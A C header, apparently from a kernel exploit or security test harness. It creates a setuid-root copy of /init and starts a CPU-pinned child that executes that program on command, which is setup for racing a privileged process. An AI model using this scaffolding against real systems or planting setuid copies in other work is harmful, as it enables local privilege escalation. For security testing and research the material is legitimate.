/* SPDX-License-Identifier: GPL-2.0-only */
/* set_id.h - a program of root with the set-user-id bit, and a child that executes when told to. */
#pragma once
#include "attack.h"

#define SET_ID "/set_id"

/* A file of root with the set-user-id bit: a copy of this program. */
static inline void make_set_id_program(void)
{
	const long from = call3(__NR_open, (long)"/init", O_RDONLY, 0);
	const long to = call3(__NR_open, (long)SET_ID, O_CREAT | O_WRONLY, 0755);

	call4(__NR_sendfile, to, from, 0, 1 << 20);
	call2(__NR_fchmod, to, 04755);
	call1(__NR_close, from);
	call1(__NR_close, to);
}

static volatile int *start_word;

/* A child that shares what FLAGS (CLONE_*) say executes PATH on CPU when start_go() is called. */
static inline long start_waiting(unsigned long flags, const char *path,
				 const char *const *environment, unsigned int cpu)
{
	static const char *const arguments[] = { "other", NULL };
	long child;

	start_word = (volatile int *)call6(__NR_mmap, 0, 4096, PROT_READ | PROT_WRITE,
					   MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	child = call5(__NR_clone, (long)(flags | SIGCHLD), 0, 0, 0, 0);
	if (child == 0) {
		(void)own_cpu(cpu);
		*start_word = 1;
		while (*start_word != 2)
			;
		call3(__NR_execve, (long)path, (long)arguments, (long)environment);
		leave(1);
	}
	while (*start_word != 1)
		sleep_milliseconds(1);
	return child;
}

static inline void start_go(void)
{
	*start_word = 2;
}

static inline long start_sharing(unsigned long flags)
{
	static const char *const environment[] = { NULL };

	return start_waiting(flags, SET_ID, environment, 1);
}
